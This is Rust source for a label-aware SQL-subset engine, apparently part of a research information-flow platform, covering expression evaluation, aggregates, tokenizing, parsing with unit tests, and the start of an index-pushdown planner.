                }
                return Ok(Value::Bool(eval(right, table, row)?.is_truthy()));
            }
            let l = eval(left, table, row)?;
            let r = eval(right, table, row)?;
            if matches!(l, Value::Null) || matches!(r, Value::Null) {
                return Ok(Value::Null);
            }
            match op {
                Eq => Ok(l.sql_eq(&r)),
                NotEq => match l.sql_eq(&r) {
                    Value::Bool(b) => Ok(Value::Bool(!b)),
                    v => Ok(v),
                },
                Lt | LtEq | Gt | GtEq => {
                    let ord = match (&l, &r) {
                        (Value::Int(a), Value::Int(b)) => a.cmp(b),
                        (Value::Text(a), Value::Text(b)) => a.cmp(b),
                        _ => return Err(QueryError::Eval("incomparable values".into())),
                    };
                    Ok(Value::Bool(match op {
                        Lt => ord.is_lt(),
                        LtEq => ord.is_le(),
                        Gt => ord.is_gt(),
                        GtEq => ord.is_ge(),
                        _ => unreachable!(),
                    }))
                }
                Like => match (&l, &r) {
                    (Value::Text(t), Value::Text(p)) => Ok(Value::Bool(like_match(t, p))),
                    _ => Err(QueryError::Eval("LIKE needs text operands".into())),
                },
                Add | Sub | Mul | Div | Mod => {
                    let (a, b) = match (&l, &r) {
                        (Value::Int(a), Value::Int(b)) => (*a, *b),
                        _ => return Err(QueryError::Eval("arithmetic needs integers".into())),
                    };
                    let out = match op {
                        Add => a.checked_add(b),
                        Sub => a.checked_sub(b),
                        Mul => a.checked_mul(b),
                        Div => {
                            if b == 0 {
                                return Err(QueryError::Eval("division by zero".into()));
                            }
                            a.checked_div(b)
                        }
                        Mod => {
                            if b == 0 {
                                return Err(QueryError::Eval("modulo by zero".into()));
                            }
                            a.checked_rem(b)
                        }
                        _ => unreachable!(),
                    };
                    out.map(Value::Int)
                        .ok_or_else(|| QueryError::Eval("integer overflow".into()))
                }
                And | Or => unreachable!("handled above"),
            }
        }
    }
}

/// Evaluate an expression with no row context (INSERT values).
fn eval_const(expr: &Expr) -> Result<Value, QueryError> {
    static EMPTY: Table = Table { columns: Vec::new(), rows: Vec::new() };
    eval(expr, &EMPTY, &[])
}

fn aggregate(item: &SelectItem, t: &Table, hits: &[&StoredRow]) -> Result<Value, QueryError> {
    match item {
        SelectItem::CountStar => Ok(Value::Int(hits.len() as i64)),
        SelectItem::Count(c) => {
            let i = t.col_index(c)?;
            Ok(Value::Int(
                hits.iter().filter(|r| !matches!(r.values[i], Value::Null)).count() as i64,
            ))
        }
        SelectItem::Sum(c) => {
            let i = t.col_index(c)?;
            let mut sum = 0i64;
            let mut any = false;
            for r in hits {
                match &r.values[i] {
                    Value::Int(v) => {
                        sum = sum
                            .checked_add(*v)
                            .ok_or_else(|| QueryError::Eval("SUM overflow".into()))?;
                        any = true;
                    }
                    Value::Null => {}
                    _ => return Err(QueryError::Eval("SUM needs an integer column".into())),
                }
            }
            Ok(if any { Value::Int(sum) } else { Value::Null })
        }
        SelectItem::Min(c) | SelectItem::Max(c) => {
            let i = t.col_index(c)?;
            let want_min = matches!(item, SelectItem::Min(_));
            let mut best: Option<Value> = None;
            for r in hits {
                let v = &r.values[i];
                if matches!(v, Value::Null) {
                    continue;
                }
                best = Some(match best {
                    None => v.clone(),
                    Some(b) => {
                        let take_new = if want_min {
                            v.order(&b).is_lt()
                        } else {
                            v.order(&b).is_gt()
                        };
                        if take_new {
                            v.clone()
                        } else {
                            b
                        }
                    }
                });
            }
            Ok(best.unwrap_or(Value::Null))
        }
        _ => unreachable!("not an aggregate"),
    }
}
