//! SQL tokenizer.

use std::fmt;

/// Lexical / syntactic errors, with a byte offset into the query text.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct SqlError {
    /// What went wrong.
    pub message: String,
    /// Byte offset where it went wrong.
    pub offset: usize,
}

impl SqlError {
    pub(crate) fn new(message: impl Into<String>, offset: usize) -> SqlError {
        SqlError { message: message.into(), offset }
    }
}

impl fmt::Display for SqlError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "SQL error at byte {}: {}", self.offset, self.message)
    }
}

impl std::error::Error for SqlError {}

/// One token, with its source offset.
#[derive(Clone, Debug, PartialEq)]
pub struct Token {
    pub kind: TokenKind,
    pub offset: usize,
}

/// Token kinds. Keywords are case-insensitive and lexed as [`TokenKind::Word`]
/// then matched upward by the parser; operators and punctuation get their own
/// variants.
#[derive(Clone, Debug, PartialEq)]
pub enum TokenKind {
    /// Identifier or keyword (stored uppercased for keywords comparison,
    /// original in `.1` for identifiers).
    Word(String, String),
    /// Integer literal.
    Number(i64),
    /// String literal (quotes removed, `''` unescaped).
    Str(String),
    LParen,
    RParen,
    Comma,
    /// `.` — qualified column references (`table.column`).
    Dot,
    Star,
    Plus,
    Minus,
    Slash,
    Percent,
    Eq,
    NotEq,
    Lt,
    LtEq,
    Gt,
    GtEq,
    /// End of input.
    Eof,
}

/// Tokenize a query string.
pub fn lex(input: &str) -> Result<Vec<Token>, SqlError> {
    let bytes = input.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        let c = bytes[i] as char;
        let start = i;
        match c {
            ' ' | '\t' | '\r' | '\n' => {
                i += 1;
            }
            '(' => {
                out.push(Token { kind: TokenKind::LParen, offset: start });
                i += 1;
            }
            ')' => {
                out.push(Token { kind: TokenKind::RParen, offset: start });
                i += 1;
            }
            ',' => {
                out.push(Token { kind: TokenKind::Comma, offset: start });
                i += 1;
            }
            '.' => {
                out.push(Token { kind: TokenKind::Dot, offset: start });
                i += 1;
            }
            '*' => {
                out.push(Token { kind: TokenKind::Star, offset: start });
                i += 1;
            }
            '+' => {
                out.push(Token { kind: TokenKind::Plus, offset: start });
                i += 1;
            }
            '-' => {
                // `--` starts a comment to end of line.
                if bytes.get(i + 1) == Some(&b'-') {
                    while i < bytes.len() && bytes[i] != b'\n' {
                        i += 1;
                    }
                } else {
                    out.push(Token { kind: TokenKind::Minus, offset: start });
                    i += 1;
                }
            }
            '/' => {
                out.push(Token { kind: TokenKind::Slash, offset: start });
                i += 1;
            }
            '%' => {
                out.push(Token { kind: TokenKind::Percent, offset: start });
                i += 1;
            }
            '=' => {
                out.push(Token { kind: TokenKind::Eq, offset: start });
                i += 1;
            }
            '!' => {
                if bytes.get(i + 1) == Some(&b'=') {
                    out.push(Token { kind: TokenKind::NotEq, offset: start });
                    i += 2;
                } else {
                    return Err(SqlError::new("expected '=' after '!'", start));
                }
            }
            '<' => match bytes.get(i + 1) {
                Some(&b'=') => {
                    out.push(Token { kind: TokenKind::LtEq, offset: start });
                    i += 2;
                }
                Some(&b'>') => {
                    out.push(Token { kind: TokenKind::NotEq, offset: start });
                    i += 2;
                }
                _ => {
                    out.push(Token { kind: TokenKind::Lt, offset: start });
                    i += 1;
                }
            },
            '>' => {
                if bytes.get(i + 1) == Some(&b'=') {
                    out.push(Token { kind: TokenKind::GtEq, offset: start });
                    i += 2;
                } else {
                    out.push(Token { kind: TokenKind::Gt, offset: start });
                    i += 1;
                }
            }
            '\'' => {
                i += 1;
                let mut s = String::new();
                loop {
                    match bytes.get(i) {
                        None => return Err(SqlError::new("unterminated string literal", start)),
                        Some(&b'\'') => {
                            if bytes.get(i + 1) == Some(&b'\'') {
                                s.push('\'');
                                i += 2;
                            } else {
                                i += 1;
                                break;
                            }
                        }
                        Some(&b) => {
                            // Keep multi-byte UTF-8 intact by copying bytes;
                            // validity is guaranteed because input is &str.
                            let ch_len = utf8_len(b);
                            s.push_str(&input[i..i + ch_len]);
                            i += ch_len;
                        }
                    }
                }
                out.push(Token { kind: TokenKind::Str(s), offset: start });
            }
            '0'..='9' => {
                let mut j = i;
                while j < bytes.len() && bytes[j].is_ascii_digit() {
                    j += 1;
                }
                let n: i64 = input[i..j]
                    .parse()
                    .map_err(|_| SqlError::new("integer literal out of range", start))?;
                out.push(Token { kind: TokenKind::Number(n), offset: start });
                i = j;
            }
            c if c.is_ascii_alphabetic() || c == '_' => {
                let mut j = i;
                while j < bytes.len()
                    && ((bytes[j] as char).is_ascii_alphanumeric() || bytes[j] == b'_')
                {
                    j += 1;
                }
                let word = &input[i..j];
                out.push(Token {
                    kind: TokenKind::Word(word.to_ascii_uppercase(), word.to_string()),
                    offset: start,
                });
                i = j;
            }
            other => {
                return Err(SqlError::new(format!("unexpected character {other:?}"), start));
            }
        }
    }
    out.push(Token { kind: TokenKind::Eof, offset: input.len() });
    Ok(out)
}

fn utf8_len(first: u8) -> usize {
    match first {
        0x00..=0x7f => 1,
        0xc0..=0xdf => 2,
        0xe0..=0xef => 3,
        _ => 4,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(s: &str) -> Vec<TokenKind> {
        lex(s).unwrap().into_iter().map(|t| t.kind).collect()
    }

    #[test]
    fn words_and_numbers() {
        let k = kinds("SELECT x FROM t WHERE x >= 10");
        assert_eq!(k[0], TokenKind::Word("SELECT".into(), "SELECT".into()));
        assert_eq!(k[1], TokenKind::Word("X".into(), "x".into()));
        assert!(k.contains(&TokenKind::GtEq));
        assert!(k.contains(&TokenKind::Number(10)));
        assert_eq!(*k.last().unwrap(), TokenKind::Eof);
    }

    #[test]
    fn strings_with_escapes() {
        let k = kinds("'it''s'");
        assert_eq!(k[0], TokenKind::Str("it's".into()));
    }

    #[test]
    fn unicode_strings() {
        let k = kinds("'héllo✓'");
        assert_eq!(k[0], TokenKind::Str("héllo✓".into()));
    }

    #[test]
    fn operators() {
        let k = kinds("= != <> < <= > >= + - * / %");
        assert_eq!(
            k,
            vec![
                TokenKind::Eq,
                TokenKind::NotEq,
                TokenKind::NotEq,
                TokenKind::Lt,
                TokenKind::LtEq,
                TokenKind::Gt,
                TokenKind::GtEq,
                TokenKind::Plus,
                TokenKind::Minus,
                TokenKind::Star,
                TokenKind::Slash,
                TokenKind::Percent,
                TokenKind::Eof
            ]
        );
    }

    #[test]
    fn comments_skipped() {
        let k = kinds("SELECT 1 -- trailing comment\n, 2");
        assert!(k.contains(&TokenKind::Number(2)));
    }

    #[test]
    fn errors() {
        assert!(lex("'unterminated").is_err());
        assert!(lex("!x").is_err());
        assert!(lex("99999999999999999999999").is_err());
        assert!(lex("@").is_err());
    }

    #[test]
    fn offsets_recorded() {
        let toks = lex("SELECT  x").unwrap();
        assert_eq!(toks[0].offset, 0);
        assert_eq!(toks[1].offset, 8);
    }
}
