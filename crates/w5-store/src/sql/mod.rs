//! The labeled SQL-subset engine.
//!
//! Supported statements:
//!
//! ```sql
//! CREATE TABLE t (id INTEGER, name TEXT, ok BOOLEAN)
//! DROP TABLE t
//! CREATE INDEX t_id ON t (id)
//! INSERT INTO t (id, name, ok) VALUES (1, 'x', TRUE), (2, 'y', FALSE)
//! SELECT * FROM t WHERE id >= 1 AND name LIKE 'x%' ORDER BY id DESC LIMIT 10
//! SELECT COUNT(*), SUM(id), MIN(id), MAX(id) FROM t
//! UPDATE t SET name = 'z' WHERE id = 2
//! DELETE FROM t WHERE ok = FALSE
//! ```
//!
//! Every stored row carries a [`w5_difc::LabelPair`]. The execution mode
//! decides what happens when a query touches rows the subject may not read:
//!
//! * [`QueryMode::Filtered`] — the W5 semantics. Unreadable rows are
//!   *silently absent* from scans, counts and aggregates; results carry the
//!   combined labels of every row that contributed, so the platform taints
//!   the reader accordingly. The query observably behaves as if secret rows
//!   did not exist.
//! * [`QueryMode::Naive`] — the status-quo shared database: scans and
//!   aggregates see all rows. This is the covert channel of paper §3.5,
//!   kept so experiment E9 can measure its bandwidth.
//!
//! Every query runs under a [`QueryCost`] budget; a pathological query is
//! aborted once it has visited its row budget ("prevent malicious queries
//! from locking the database", §3.5).
//!
//! Storage is **label-partitioned** (see [`exec`]'s module docs): rows with
//! identical label pairs live contiguously, so the production executor
//! ([`PartitionedExec`]) performs one flow check per partition, skips
//! unreadable partitions wholesale at a flat label-safe cost, and serves
//! indexed `WHERE` clauses from per-partition sorted runs. The seed-era
//! per-row scan survives as [`ReferenceExec`] — the baseline for the
//! differential oracle in `w5-sim` and the store benchmarks.

mod ast;
mod exec;
mod lexer;
mod parser;
mod plan;
mod storage;
mod value;

pub use ast::{Expr, SelectItem, Statement};
pub use exec::{
    Database, Executor, PartitionedExec, QueryCost, QueryError, QueryMode, QueryOutput,
    ReferenceExec, Row, Scan,
};
pub use lexer::SqlError;
pub use parser::parse;
pub use storage::{RowLoc, Table};
pub use value::{ColumnType, Value};
