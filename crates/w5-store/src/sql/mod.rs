//! The labeled SQL-subset engine.
//!
//! Supported statements:
//!
//! ```sql
//! CREATE TABLE t (id INTEGER, name TEXT, ok BOOLEAN)
//! DROP TABLE t
//! INSERT INTO t (id, name, ok) VALUES (1, 'x', TRUE), (2, 'y', FALSE)
//! SELECT * FROM t WHERE id >= 1 AND name LIKE 'x%' ORDER BY id DESC LIMIT 10
//! SELECT COUNT(*), SUM(id), MIN(id), MAX(id) FROM t
//! UPDATE t SET name = 'z' WHERE id = 2
//! DELETE FROM t WHERE ok = FALSE
//! ```
//!
//! Every stored row carries a [`w5_difc::LabelPair`]. The execution mode
//! decides what happens when a query touches rows the subject may not read:
//!
//! * [`QueryMode::Filtered`] — the W5 semantics. Unreadable rows are
//!   *silently absent* from scans, counts and aggregates; results carry the
//!   combined labels of every row that contributed, so the platform taints
//!   the reader accordingly. The query observably behaves as if secret rows
//!   did not exist.
//! * [`QueryMode::Naive`] — the status-quo shared database: scans and
//!   aggregates see all rows. This is the covert channel of paper §3.5,
//!   kept so experiment E9 can measure its bandwidth.
//!
//! Every query runs under a [`QueryCost`] budget; a pathological query is
//! aborted once it has visited its row budget ("prevent malicious queries
//! from locking the database", §3.5).

mod ast;
mod exec;
mod lexer;
mod parser;
mod value;

pub use ast::{Expr, SelectItem, Statement};
pub use exec::{Database, QueryCost, QueryError, QueryMode, QueryOutput, Row};
pub use lexer::SqlError;
pub use parser::parse;
pub use value::{ColumnType, Value};
