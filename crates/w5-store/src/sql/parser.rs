//! Recursive-descent parser for the SQL subset.

use super::ast::{BinOp, Expr, Join, SelectItem, Statement};
use super::lexer::{lex, SqlError, Token, TokenKind};
use super::value::{ColumnType, Value};

/// Parse one statement.
pub fn parse(input: &str) -> Result<Statement, SqlError> {
    let tokens = lex(input)?;
    let mut p = Parser { tokens, pos: 0 };
    let stmt = p.statement()?;
    p.expect_eof()?;
    Ok(stmt)
}

struct Parser {
    tokens: Vec<Token>,
    pos: usize,
}

impl Parser {
    fn peek(&self) -> &TokenKind {
        &self.tokens[self.pos].kind
    }

    fn offset(&self) -> usize {
        self.tokens[self.pos].offset
    }

    fn bump(&mut self) -> TokenKind {
        let t = self.tokens[self.pos].kind.clone();
        if self.pos < self.tokens.len() - 1 {
            self.pos += 1;
        }
        t
    }

    fn err(&self, msg: impl Into<String>) -> SqlError {
        SqlError::new(msg, self.offset())
    }

    /// Match a keyword (case-insensitive) and consume it.
    fn eat_kw(&mut self, kw: &str) -> bool {
        if let TokenKind::Word(upper, _) = self.peek() {
            if upper == kw {
                self.bump();
                return true;
            }
        }
        false
    }

    fn expect_kw(&mut self, kw: &str) -> Result<(), SqlError> {
        if self.eat_kw(kw) {
            Ok(())
        } else {
            Err(self.err(format!("expected {kw}")))
        }
    }

    fn expect(&mut self, kind: TokenKind, what: &str) -> Result<(), SqlError> {
        if *self.peek() == kind {
            self.bump();
            Ok(())
        } else {
            Err(self.err(format!("expected {what}")))
        }
    }

    fn expect_eof(&mut self) -> Result<(), SqlError> {
        if matches!(self.peek(), TokenKind::Eof) {
            Ok(())
        } else {
            Err(self.err("unexpected trailing tokens"))
        }
    }

    /// An identifier (original case preserved), refusing reserved keywords.
    fn ident(&mut self) -> Result<String, SqlError> {
        const RESERVED: &[&str] = &[
            "SELECT", "FROM", "WHERE", "INSERT", "INTO", "VALUES", "UPDATE", "SET", "DELETE",
            "CREATE", "DROP", "TABLE", "ORDER", "BY", "LIMIT", "AND", "OR", "NOT", "TRUE",
            "FALSE", "NULL", "LIKE", "ASC", "DESC", "IS", "COUNT", "SUM", "MIN", "MAX",
            "JOIN", "INNER", "ON", "INDEX",
        ];
        match self.peek().clone() {
            TokenKind::Word(upper, orig) => {
                if RESERVED.contains(&upper.as_str()) {
                    Err(self.err(format!("{orig:?} is a reserved word")))
                } else {
                    self.bump();
                    Ok(orig)
                }
            }
            _ => Err(self.err("expected identifier")),
        }
    }

    /// A possibly-qualified column reference: `col` or `table.col`.
    fn column_ref(&mut self) -> Result<String, SqlError> {
        let first = self.ident()?;
        if matches!(self.peek(), TokenKind::Dot) {
            self.bump();
            let second = self.ident()?;
            Ok(format!("{first}.{second}"))
        } else {
            Ok(first)
        }
    }

    fn statement(&mut self) -> Result<Statement, SqlError> {
        if self.eat_kw("CREATE") {
            if self.eat_kw("INDEX") {
                // Optional index name before ON; single-column indexes only.
                if !matches!(self.peek(), TokenKind::Word(w, _) if w.as_str() == "ON") {
                    self.ident()?;
                }
                self.expect_kw("ON")?;
                let table = self.ident()?;
                self.expect(TokenKind::LParen, "(")?;
                let column = self.ident()?;
                self.expect(TokenKind::RParen, ")")?;
                return Ok(Statement::CreateIndex { table, column });
            }
            self.expect_kw("TABLE")?;
            let name = self.ident()?;
            self.expect(TokenKind::LParen, "(")?;
            let mut columns = Vec::new();
            loop {
                let col = self.ident()?;
                let ty = self.column_type()?;
                columns.push((col, ty));
                if !self.eat_comma() {
                    break;
                }
            }
            self.expect(TokenKind::RParen, ")")?;
            if columns.is_empty() {
                return Err(self.err("table needs at least one column"));
            }
            return Ok(Statement::CreateTable { name, columns });
        }
        if self.eat_kw("DROP") {
            self.expect_kw("TABLE")?;
            let name = self.ident()?;
            return Ok(Statement::DropTable { name });
        }
        if self.eat_kw("INSERT") {
            self.expect_kw("INTO")?;
            let table = self.ident()?;
            let columns = if matches!(self.peek(), TokenKind::LParen) {
                self.bump();
                let mut cols = Vec::new();
                loop {
                    cols.push(self.ident()?);
                    if !self.eat_comma() {
                        break;
                    }
                }
                self.expect(TokenKind::RParen, ")")?;
                Some(cols)
            } else {
                None
            };
            self.expect_kw("VALUES")?;
            let mut rows = Vec::new();
            loop {
                self.expect(TokenKind::LParen, "(")?;
                let mut vals = Vec::new();
                loop {
                    vals.push(self.expr()?);
                    if !self.eat_comma() {
                        break;
                    }
                }
                self.expect(TokenKind::RParen, ")")?;
                rows.push(vals);
                if !self.eat_comma() {
                    break;
                }
            }
            return Ok(Statement::Insert { table, columns, rows });
        }
        if self.eat_kw("SELECT") {
            let mut items = Vec::new();
            loop {
                items.push(self.select_item()?);
                if !self.eat_comma() {
                    break;
                }
            }
            self.expect_kw("FROM")?;
            let table = self.ident()?;
            let join = if self.eat_kw("JOIN") || self.eat_kw("INNER") {
                // Accept both `JOIN` and `INNER JOIN`.
                self.eat_kw("JOIN");
                let jtable = self.ident()?;
                self.expect_kw("ON")?;
                let left = self.column_ref()?;
                self.expect(TokenKind::Eq, "=")?;
                let right = self.column_ref()?;
                Some(Join { table: jtable, left, right })
            } else {
                None
            };
            let filter = if self.eat_kw("WHERE") { Some(self.expr()?) } else { None };
            let order_by = if self.eat_kw("ORDER") {
                self.expect_kw("BY")?;
                let col = self.column_ref()?;
                let asc = if self.eat_kw("DESC") {
                    false
                } else {
                    self.eat_kw("ASC");
                    true
                };
                Some((col, asc))
            } else {
                None
            };
            let limit = if self.eat_kw("LIMIT") {
                match self.bump() {
                    TokenKind::Number(n) if n >= 0 => Some(n as usize),
                    _ => return Err(self.err("LIMIT needs a non-negative integer")),
                }
            } else {
                None
            };
            let has_agg = items.iter().any(SelectItem::is_aggregate);
            let has_plain = items.iter().any(|i| !i.is_aggregate());
            if has_agg && has_plain {
                return Err(self.err("cannot mix aggregates and plain columns"));
            }
            return Ok(Statement::Select { items, table, join, filter, order_by, limit });
        }
        if self.eat_kw("UPDATE") {
            let table = self.ident()?;
            self.expect_kw("SET")?;
            let mut sets = Vec::new();
            loop {
                let col = self.ident()?;
                self.expect(TokenKind::Eq, "=")?;
                let e = self.expr()?;
                sets.push((col, e));
                if !self.eat_comma() {
                    break;
                }
            }
            let filter = if self.eat_kw("WHERE") { Some(self.expr()?) } else { None };
            return Ok(Statement::Update { table, sets, filter });
        }
        if self.eat_kw("DELETE") {
            self.expect_kw("FROM")?;
            let table = self.ident()?;
            let filter = if self.eat_kw("WHERE") { Some(self.expr()?) } else { None };
            return Ok(Statement::Delete { table, filter });
        }
        Err(self.err("expected a statement"))
    }

    fn eat_comma(&mut self) -> bool {
        if matches!(self.peek(), TokenKind::Comma) {
            self.bump();
            true
        } else {
            false
        }
    }

    fn column_type(&mut self) -> Result<ColumnType, SqlError> {
        if self.eat_kw("INTEGER") || self.eat_kw("INT") {
            Ok(ColumnType::Integer)
        } else if self.eat_kw("TEXT") || self.eat_kw("VARCHAR") {
            Ok(ColumnType::Text)
        } else if self.eat_kw("BOOLEAN") || self.eat_kw("BOOL") {
            Ok(ColumnType::Boolean)
        } else {
            Err(self.err("expected a column type (INTEGER, TEXT, BOOLEAN)"))
        }
    }

    fn select_item(&mut self) -> Result<SelectItem, SqlError> {
        if matches!(self.peek(), TokenKind::Star) {
            self.bump();
            return Ok(SelectItem::Wildcard);
        }
        // Aggregates.
        for (kw, mk) in [
            ("COUNT", None),
            ("SUM", Some(SelectItem::Sum as fn(String) -> SelectItem)),
            ("MIN", Some(SelectItem::Min as fn(String) -> SelectItem)),
            ("MAX", Some(SelectItem::Max as fn(String) -> SelectItem)),
        ] {
            if let TokenKind::Word(upper, _) = self.peek() {
                if upper == kw && matches!(self.tokens[self.pos + 1].kind, TokenKind::LParen) {
                    self.bump(); // keyword
                    self.bump(); // (
                    let item = if kw == "COUNT" && matches!(self.peek(), TokenKind::Star) {
                        self.bump();
                        SelectItem::CountStar
                    } else {
                        let col = self.column_ref()?;
                        match mk {
                            Some(f) => f(col),
                            None => SelectItem::Count(col),
                        }
                    };
                    self.expect(TokenKind::RParen, ")")?;
                    return Ok(item);
                }
            }
        }
        Ok(SelectItem::Expr(self.expr()?))
    }

    // Expression precedence: OR < AND < NOT < comparison < add < mul < unary.
    fn expr(&mut self) -> Result<Expr, SqlError> {
        self.or_expr()
    }

    fn or_expr(&mut self) -> Result<Expr, SqlError> {
        let mut e = self.and_expr()?;
        while self.eat_kw("OR") {
            let rhs = self.and_expr()?;
            e = Expr::Binary { op: BinOp::Or, left: Box::new(e), right: Box::new(rhs) };
        }
        Ok(e)
    }

    fn and_expr(&mut self) -> Result<Expr, SqlError> {
        let mut e = self.not_expr()?;
        while self.eat_kw("AND") {
            let rhs = self.not_expr()?;
            e = Expr::Binary { op: BinOp::And, left: Box::new(e), right: Box::new(rhs) };
        }
        Ok(e)
    }

    fn not_expr(&mut self) -> Result<Expr, SqlError> {
        if self.eat_kw("NOT") {
            Ok(Expr::Not(Box::new(self.not_expr()?)))
        } else {
            self.cmp_expr()
        }
    }

    fn cmp_expr(&mut self) -> Result<Expr, SqlError> {
        let left = self.add_expr()?;
        // IS [NOT] NULL
        if self.eat_kw("IS") {
            let negated = self.eat_kw("NOT");
            self.expect_kw("NULL")?;
            return Ok(Expr::IsNull { expr: Box::new(left), negated });
        }
        let op = match self.peek() {
            TokenKind::Eq => Some(BinOp::Eq),
            TokenKind::NotEq => Some(BinOp::NotEq),
            TokenKind::Lt => Some(BinOp::Lt),
            TokenKind::LtEq => Some(BinOp::LtEq),
            TokenKind::Gt => Some(BinOp::Gt),
            TokenKind::GtEq => Some(BinOp::GtEq),
            TokenKind::Word(w, _) if w == "LIKE" => Some(BinOp::Like),
            _ => None,
        };
        if let Some(op) = op {
            self.bump();
            let right = self.add_expr()?;
            Ok(Expr::Binary { op, left: Box::new(left), right: Box::new(right) })
        } else {
            Ok(left)
        }
    }

    fn add_expr(&mut self) -> Result<Expr, SqlError> {
        let mut e = self.mul_expr()?;
        loop {
            let op = match self.peek() {
                TokenKind::Plus => BinOp::Add,
                TokenKind::Minus => BinOp::Sub,
                _ => break,
            };
            self.bump();
            let rhs = self.mul_expr()?;
            e = Expr::Binary { op, left: Box::new(e), right: Box::new(rhs) };
        }
        Ok(e)
    }

    fn mul_expr(&mut self) -> Result<Expr, SqlError> {
        let mut e = self.unary_expr()?;
        loop {
            let op = match self.peek() {
                TokenKind::Star => BinOp::Mul,
                TokenKind::Slash => BinOp::Div,
                TokenKind::Percent => BinOp::Mod,
                _ => break,
            };
            self.bump();
            let rhs = self.unary_expr()?;
            e = Expr::Binary { op, left: Box::new(e), right: Box::new(rhs) };
        }
        Ok(e)
    }

    fn unary_expr(&mut self) -> Result<Expr, SqlError> {
        if matches!(self.peek(), TokenKind::Minus) {
            self.bump();
            return Ok(Expr::Neg(Box::new(self.unary_expr()?)));
        }
        self.primary()
    }

    fn primary(&mut self) -> Result<Expr, SqlError> {
        match self.peek().clone() {
            TokenKind::Number(n) => {
                self.bump();
                Ok(Expr::Literal(Value::Int(n)))
            }
            TokenKind::Str(s) => {
                self.bump();
                Ok(Expr::Literal(Value::Text(s)))
            }
            TokenKind::LParen => {
                self.bump();
                let e = self.expr()?;
                self.expect(TokenKind::RParen, ")")?;
                Ok(e)
            }
            TokenKind::Word(upper, _) => match upper.as_str() {
                "TRUE" => {
                    self.bump();
                    Ok(Expr::Literal(Value::Bool(true)))
                }
                "FALSE" => {
                    self.bump();
                    Ok(Expr::Literal(Value::Bool(false)))
                }
                "NULL" => {
                    self.bump();
                    Ok(Expr::Literal(Value::Null))
                }
                _ => {
                    // Could be a qualified column (the keyword word was
                    // already rejected by ident()).
                    Ok(Expr::Column(self.column_ref()?))
                }
            },
            _ => Err(self.err("expected an expression")),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn create_table() {
        let s = parse("CREATE TABLE photos (id INTEGER, owner TEXT, hidden BOOLEAN)").unwrap();
        match s {
            Statement::CreateTable { name, columns } => {
                assert_eq!(name, "photos");
                assert_eq!(columns.len(), 3);
                assert_eq!(columns[0], ("id".to_string(), ColumnType::Integer));
                assert_eq!(columns[2], ("hidden".to_string(), ColumnType::Boolean));
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn insert_multi_row() {
        let s = parse("INSERT INTO t (a, b) VALUES (1, 'x'), (2, 'y')").unwrap();
        match s {
            Statement::Insert { table, columns, rows } => {
                assert_eq!(table, "t");
                assert_eq!(columns.unwrap(), vec!["a", "b"]);
                assert_eq!(rows.len(), 2);
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn select_full() {
        let s = parse(
            "SELECT id, name FROM users WHERE age >= 18 AND name LIKE 'A%' ORDER BY id DESC LIMIT 5",
        )
        .unwrap();
        match s {
            Statement::Select { items, table, filter, order_by, limit, .. } => {
                assert_eq!(items.len(), 2);
                assert_eq!(table, "users");
                assert!(filter.is_some());
                assert_eq!(order_by, Some(("id".to_string(), false)));
                assert_eq!(limit, Some(5));
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn select_aggregates() {
        let s = parse("SELECT COUNT(*), SUM(size), MIN(size), MAX(size) FROM files").unwrap();
        match s {
            Statement::Select { items, .. } => {
                assert_eq!(items.len(), 4);
                assert!(items.iter().all(SelectItem::is_aggregate));
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn mixing_aggregates_rejected() {
        assert!(parse("SELECT id, COUNT(*) FROM t").is_err());
    }

    #[test]
    fn update_and_delete() {
        assert!(matches!(
            parse("UPDATE t SET a = a + 1, b = 'x' WHERE a < 10").unwrap(),
            Statement::Update { .. }
        ));
        assert!(matches!(
            parse("DELETE FROM t WHERE NOT ok").unwrap(),
            Statement::Delete { .. }
        ));
        assert!(matches!(parse("DROP TABLE t").unwrap(), Statement::DropTable { .. }));
    }

    #[test]
    fn precedence() {
        // a OR b AND c parses as a OR (b AND c).
        let s = parse("SELECT * FROM t WHERE a OR b AND c").unwrap();
        if let Statement::Select { filter: Some(Expr::Binary { op, .. }), .. } = s {
            assert_eq!(op, BinOp::Or);
        } else {
            panic!("bad parse");
        }
        // 1 + 2 * 3 parses as 1 + (2 * 3).
        let s = parse("SELECT * FROM t WHERE x = 1 + 2 * 3").unwrap();
        if let Statement::Select { filter: Some(Expr::Binary { op, right, .. }), .. } = s {
            assert_eq!(op, BinOp::Eq);
            if let Expr::Binary { op, .. } = *right {
                assert_eq!(op, BinOp::Add);
            } else {
                panic!("bad rhs");
            }
        } else {
            panic!("bad parse");
        }
    }

    #[test]
    fn is_null() {
        let s = parse("SELECT * FROM t WHERE a IS NULL OR b IS NOT NULL").unwrap();
        assert!(matches!(s, Statement::Select { .. }));
    }

    #[test]
    fn reserved_words_rejected_as_identifiers() {
        assert!(parse("CREATE TABLE select (a INTEGER)").is_err());
        assert!(parse("SELECT from FROM t").is_err());
    }

    #[test]
    fn trailing_garbage_rejected() {
        assert!(parse("SELECT * FROM t garbage").is_err());
        assert!(parse("DROP TABLE t; DROP TABLE u").is_err());
    }

    #[test]
    fn error_offsets_point_at_problem() {
        let err = parse("SELECT * FROM").unwrap_err();
        assert_eq!(err.offset, 13);
    }
}
