//! Predicate pushdown: turn WHERE clauses into index probes.
//!
//! The planner walks the top-level `AND` conjuncts of a filter looking for
//! comparisons of the shape `column op literal` (or the mirror image) where
//! the column carries a secondary index. The chosen bounds drive a
//! [`SortedRun`](super::storage::SortedRun) probe per visible partition;
//! the executor then re-evaluates the **full** original filter on every
//! candidate row, so the probe only has to produce a superset of the
//! matching rows. Soundness of the superset claim:
//!
//! * `Eq` — `sql_eq` is only `TRUE` for same-variant equal values, and
//!   [`Value::order`](super::value::Value::order) places equal values
//!   adjacently, so the binary-search window covers every possible match.
//!   NULL literals are never pushed (`x = NULL` is never true).
//! * Ranges — pushed only when the literal's type matches the declared
//!   column type. A truthy `<`/`<=`/`>`/`>=` requires same-type operands
//!   (anything else evaluates to an error or NULL), and on same-type values
//!   `Value::order` agrees with SQL comparison, so order-based windows
